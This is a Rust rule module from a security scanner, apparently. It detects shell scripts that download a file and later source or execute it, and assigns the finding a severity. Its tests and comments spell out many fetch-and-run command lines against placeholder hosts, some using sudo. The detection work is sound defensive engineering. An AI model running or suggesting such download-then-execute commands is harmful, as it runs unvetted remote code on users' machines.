//! Downloads saved to a file and run later in the same file: `curl -o f URL; . f`,
//! `wget -O f URL` then `source f` lines further on, `curl URL > f && bash f`, `curl -O
//! URL/i.sh; sh i.sh`, `iwr URL -OutFile f.ps1; & ./f.ps1`. High: whatever the server sends
//! runs, and what runs was never in the package that was scanned.
//!
//! A file counts as run when it is sourced (`.`, `source`), given to a shell or an
//! interpreter, fed to one on standard input, or run by its path (`./f`, `/tmp/f`). A program
//! run by a bare name is left alone: `PATH` decides what that runs.

use crate::finding::{Finding, Rule, Severity};
use crate::rules::patterns::refine_download_to_shell;
use crate::rules::shell::{Statement, Token, Word};
use crate::rules::{TextFile, finding_at};
use crate::text::{LineIndex, excerpt};

/// Programs that fetch a URL.
const DOWNLOADERS: [&str; 8] = [
    "curl",
    "wget",
    "iwr",
    "invoke-webrequest",
    "irm",
    "invoke-restmethod",
    "start-bitstransfer",
    "aria2c",
];

/// Words before the program: `sudo -E`, `env A=1`, `exec`, `nohup`.
const PREFIXES: [&str; 8] = [
    "sudo", "env", "exec", "command", "nohup", "time", "builtin", "doas",
];

/// Programs that run a file given as their first argument.
const RUNNERS: [&str; 20] = [
    ".",
    "source",
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "tclsh",
    "lua",
    "perl",
    "ruby",
    "node",
    "php",
    "pwsh",
    "powershell",
    "deno",
    "bun",
    "tsx",
    "ts-node",
];

/// Options after which the program text is inline (nothing is read from a file).
const INLINE: [&str; 7] = [
    "-c",
    "-e",
    "-m",
    "-r",
    "--eval",
    "-command",
    "-encodedcommand",
];

/// A download seen so far.
struct Saved {
    file: String,
    /// Where the statement that saved it starts.
    start: usize,
    raw: String,
}

/// How a statement runs a file.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Run {
    /// Sourced, or read by a shell or an interpreter: a script that was downloaded.
    Script,
    /// Run by its path: a program that was downloaded, judged by where it came from as a
    /// vendor's installer piped into a shell is (an HTTPS release of a named host is worth a
    /// look, anything else is high).
    Program,
}

/// The check over one file's statements, in order.
pub(crate) struct Fetched {
    /// The file names a downloader at all (else nothing here can match).
    active: bool,
    saved: Vec<Saved>,
    found: usize,
}

impl Fetched {
    /// The check for `file`.
    pub(crate) fn new(file: &TextFile<'_>) -> Self {
        let lower = file.text.to_ascii_lowercase();
        Self {
            active: DOWNLOADERS.iter().any(|d| lower.contains(d)),
            saved: Vec::new(),
            found: 0,
        }
    }

    /// Records `statement`'s download, or reports its run of a file downloaded before (at
    /// most `cap` findings a file).
    pub(crate) fn statement(
        &mut self,
        file: &TextFile<'_>,
        statement: &Statement,
        index: &mut Option<LineIndex>,
        (cap, out): (usize, &mut Vec<Finding>),
    ) {
        if !self.active {
            return;
        }
        let words = command_words(statement);
        if let Some((run, how)) = ran_file(statement, &words)
            && self.found < cap
            && let Some(download) = self.saved.iter().rev().find(|s| same_file(&s.file, &run))
        {
            self.found += 1;
            let index = index.get_or_insert_with(|| LineIndex::new(file.bytes));
            let (line, _) = index.position(file.bytes, statement.start);
            let end = download.start + download.raw.len();
            let severity = match how {
                Run::Script => Severity::High,
                Run::Program => refine_download_to_shell(&download.raw, Severity::Medium)
                    .map_or(Severity::Medium, |(severity, _)| severity),
            };
            out.push(finding_at(
                file.path,
                file.bytes,
                index,
                (download.start, end.min(file.bytes.len())),
                (Rule::PipeToShell, severity),
                format!(
                    "a download is saved as `{}` and run by `{}` (line {line}): whatever the server sends runs, and it was never scanned",
                    excerpt(&download.file, 60),
                    excerpt(&statement.raw, 60)
                ),
            ));
        }
        if let Some(file) = saved_file(statement, &words) {
            self.saved.push(Saved {
                file,
                start: statement.start,
                raw: statement.raw.clone(),
            });
        }
    }
}

/// The statement's words from its program on (assignments and prefixes skipped), as text;
/// empty unless the program downloads, runs a file, or is a path (nothing else matters here).
fn command_words(statement: &Statement) -> Vec<String> {
    let mut words = statement.words().map(Word::as_text).peekable();
    let mut skipped = 0;
    while let Some(word) = words.peek() {
        let assignment = word
            .split_once('=')
            .is_some_and(|(name, _)| !name.is_empty() && !name.starts_with('-'));
        let prefix = PREFIXES.iter().any(|p| word.eq_ignore_ascii_case(p));
        if assignment || prefix || (skipped > 0 && word.starts_with('-')) {
            skipped += 1;
            words.next();
        } else {
            break;
        }
    }
    let Some(first) = words.peek() else {
        return Vec::new();
    };
    let name = first
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(first)
        .to_ascii_lowercase();
    let wanted = DOWNLOADERS.contains(&name.as_str())
        || RUNNERS.contains(&name.as_str())
        || name.starts_with("python")
        || first.contains('/');
    if !wanted {
        return Vec::new();
    }
    words.map(std::borrow::Cow::into_owned).collect()
}

/// The program's name: the last part of its path, lower-cased.
fn program(words: &[String]) -> Option<String> {
    let first = words.first()?;
    Some(
        first
            .rsplit(['/', '\\'])
            .next()
            .unwrap_or(first)
            .to_ascii_lowercase(),
    )
}

/// The file a download statement writes, if it is one.
fn saved_file(statement: &Statement, words: &[String]) -> Option<String> {
    let name = program(words)?;
    if !DOWNLOADERS.contains(&name.as_str()) {
        return None;
    }
    let redirected = tee_target(statement).or_else(|| redirect_target(statement, ">"));
    let url = words.iter().find(|w| w.contains("://")).cloned();
    let remote_name = || url.as_deref().and_then(url_basename);
    let args = &words[1..];
    match name.as_str() {
        "curl" | "aria2c" => {
            if let Some(file) = option_value(args, &["-o", "--output", "--out"], 'o') {
                return Some(file);
            }
            let remote = args
                .iter()
                .any(|a| a == "--remote-name" || (short_flags(a).is_some_and(|f| f.contains('O'))));
            redirected.or_else(|| remote.then(remote_name).flatten())
        }
        "wget" => match option_value(args, &["-O", "--output-document"], 'O') {
            Some(file) if file != "-" => Some(file),
            Some(_) => redirected,
            None => redirected.or_else(|| {
                let dir = option_value(args, &["-P", "--directory-prefix"], 'P');
                let base = remote_name()?;
                Some(match dir {
                    Some(dir) => format!("{}/{base}", dir.trim_end_matches('/')),
                    None => base,
                })
            }),
        },
        _ => args
            .iter()
            .position(|a| {
                let a = a.to_ascii_lowercase();
                a.starts_with("-outf") || a.starts_with("-dest")
            })
            .and_then(|i| args.get(i + 1).cloned())
            .or(redirected),
    }
}

/// The value of an option: `-o FILE`, `--output FILE`, `--output=FILE`, `-oFILE`, or the
/// last of combined short flags (`-sSLo FILE`).
fn option_value(args: &[String], names: &[&str], short: char) -> Option<String> {
    for (i, arg) in args.iter().enumerate() {
        if names.contains(&arg.as_str()) {
            return args.get(i + 1).cloned();
        }
        if let Some((name, value)) = arg.split_once('=')
            && names.contains(&name)
        {
            return Some(value.to_owned());
        }
        if let Some(flags) = short_flags(arg)
            && let Some(at) = flags.find(short)
        {
            let rest = &flags[at + short.len_utf8()..];
            return if rest.is_empty() {
                args.get(i + 1).cloned()
            } else {
                Some(rest.to_owned())
            };
        }
    }
    None
}

/// The letters of a `-abc` word (not `--long`, not `-` alone).
fn short_flags(arg: &str) -> Option<&str> {
    let flags = arg.strip_prefix('-')?;
    (!flags.is_empty() && !flags.starts_with('-')).then_some(flags)
}

/// The word after the first `op` (`>`, `>>`, `<`) of the statement.
fn redirect_target(statement: &Statement, op: &str) -> Option<String> {
    let ops: &[&str] = if op == ">" { &[">", ">>"] } else { &[op] };
    let mut tokens = statement.tokens.iter();
    while let Some(token) = tokens.next() {
        if matches!(token, Token::Op(o) if ops.contains(o))
            && let Some(Token::Word(word)) = tokens.next()
        {
            return Some(word.text());
        }
    }
    None
}

/// The file of a `| tee [-a] FILE`.
fn tee_target(statement: &Statement) -> Option<String> {
    let words: Vec<String> = statement.words().map(|w| w.text()).collect();
    let at = words.iter().position(|w| w == "tee")?;
    words[at + 1..]
        .iter()
        .find(|w| !w.starts_with('-'))
        .cloned()
}

/// The last part of a URL's path (what `curl -O` and `wget` name the file), without its
/// query or fragment.
fn url_basename(url: &str) -> Option<String> {
    let path = url.split(['?', '#']).next()?;
    let (_, after_scheme) = path.split_once("://")?;
    let (_, path) = after_scheme.split_once('/')?;
    let name = path.rsplit('/').next()?;
    (!name.is_empty()).then(|| name.to_owned())
}

/// The file a statement runs, if it runs one, and how: sourced, given to a runner, fed on
/// standard input, or run by its path.
fn ran_file(statement: &Statement, words: &[String]) -> Option<(String, Run)> {
    let name = program(words)?;
    let first = words.first()?;
    if RUNNERS.contains(&name.as_str()) || name.starts_with("python") {
        if let Some(input) = redirect_target(statement, "<") {
            return Some((input, Run::Script));
        }
        for arg in &words[1..] {
            let lower = arg.to_ascii_lowercase();
            if INLINE.contains(&lower.as_str()) {
                return None;
            }
            if arg.starts_with('-') || arg == "run" {
                continue;
            }
            return Some((arg.clone(), Run::Script));
        }
        return None;
    }
    // A path, not a name looked up in PATH (nor a URL).
    (first.contains('/') && !first.contains("://")).then(|| (first.clone(), Run::Program))
}

/// True when `run` names the file `saved` (as written, with or without `./`, or by its
/// name when one of them is spelled with a directory).
pub(crate) fn same_file(saved: &str, run: &str) -> bool {
    let plain = |p: &str| p.strip_prefix("./").unwrap_or(p).to_owned();
    let (saved, run) = (plain(saved), plain(run));
    if saved.is_empty() || saved == "-" || saved == "/dev/null" {
        return false;
    }
    let name = |p: &str| p.rsplit('/').next().unwrap_or(p).to_owned();
    saved == run || ((saved.contains('/') || run.contains('/')) && name(&saved) == name(&run))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<(Severity, u32)> {
        crate::rules::shell_findings(text)
            .iter()
            .filter(|f| f.message.starts_with("a download is saved"))
            .map(|f| (f.severity, f.line.unwrap_or(0)))
            .collect()
    }

    fn lines(text: &str) -> Vec<u32> {
        let found = found(text);
        assert!(found.iter().all(|f| f.0 == Severity::High), "{text}");
        found.iter().map(|f| f.1).collect()
    }

    #[test]
    fn saved_then_run_in_every_spelling() {
        for text in [
            "curl -o f https://x.example/p; . f",
            "curl -fsSLo /tmp/i.sh https://x.example/i.sh\nbash /tmp/i.sh",
            "wget -O f https://x.example/p\nsource f",
            "curl https://x.example/p > f && bash f",
            "wget -qO- https://x.example/p > /tmp/s.sh; sh /tmp/s.sh",
            "curl -sSO https://x.example/install.sh && bash install.sh",
            "wget https://x.example/setup.sh\nsh ./setup.sh",
            "wget -P /tmp https://x.example/s.sh && sh /tmp/s.sh",
            "curl -o f http://x.example/p\nchmod +x f\n./f",
            "curl https://x.example/p | tee /tmp/x.sh >/dev/null; bash < /tmp/x.sh",
            "F=/tmp/x.py; curl -o \"$F\" https://x.example/x.py; python3 \"$F\"",
            "iwr https://x.example/a.ps1 -OutFile a.ps1; pwsh -File ./a.ps1",
            "sudo curl --output=/usr/local/bin/t http://203.0.113.7/t && sudo /usr/local/bin/t",
        ] {
            assert_eq!(lines(text), [1], "{text}");
        }
    }

    #[test]
    fn a_program_run_by_its_path_is_judged_by_where_it_came_from() {
        // A vendor's HTTPS release, as a vendor's installer piped into a shell: worth a look.
        assert_eq!(
            found(
                "curl -L -o ~/bin/tool https://github.com/o/tool/releases/download/v1/tool\n~/bin/tool --help"
            ),
            [(Severity::Medium, 1)]
        );
        assert_eq!(
            found("curl -o ./t https://pastebin.com/raw/x && ./t"),
            [(Severity::High, 1)]
        );
    }

    #[test]
    fn data_files_and_other_files_are_not_runs() {
        for text in [
            "curl -o data.json https://api.example/x && python parse.py",
            "curl -o f https://x.example/p; cat f",
            "curl -L -o ~/.local/bin/tool https://x.example/tool && chmod +x ~/.local/bin/tool\ntool --help",
            "curl -s https://x.example/p -o /dev/null; sh /dev/null",
            "wget -O - https://x.example/p | jq .\nbash -c 'echo p'",
            "python3 -m pip install x\ncurl -O https://x.example/p.py",
        ] {
            assert!(lines(text).is_empty(), "{text}");
        }
    }
}
